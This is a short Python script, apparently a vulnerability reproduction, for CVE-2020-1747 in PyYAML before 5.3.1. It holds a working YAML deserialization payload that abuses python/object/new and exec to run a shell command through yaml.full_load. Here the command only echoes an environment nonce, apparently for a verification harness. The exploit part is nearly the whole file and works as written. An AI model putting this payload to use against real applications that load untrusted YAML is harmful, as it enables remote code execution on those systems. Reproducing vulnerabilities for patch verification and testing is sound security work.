# PYSEC-2020-96 (CVE-2020-1747): PyYAML before 5.3.1, FullLoader's python/object/new builds any class and then
# calls its `extend` with the node's listitems; a class made with type() whose extend is exec runs attacker code.
import os

import yaml

command = f"__import__('os').system('echo {os.environ['REPRODUCE_NONCE']}')"
yaml.full_load(
    "!!python/object/new:type\n"
    'args: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\n'
    f'listitems: "{command}"\n'
)
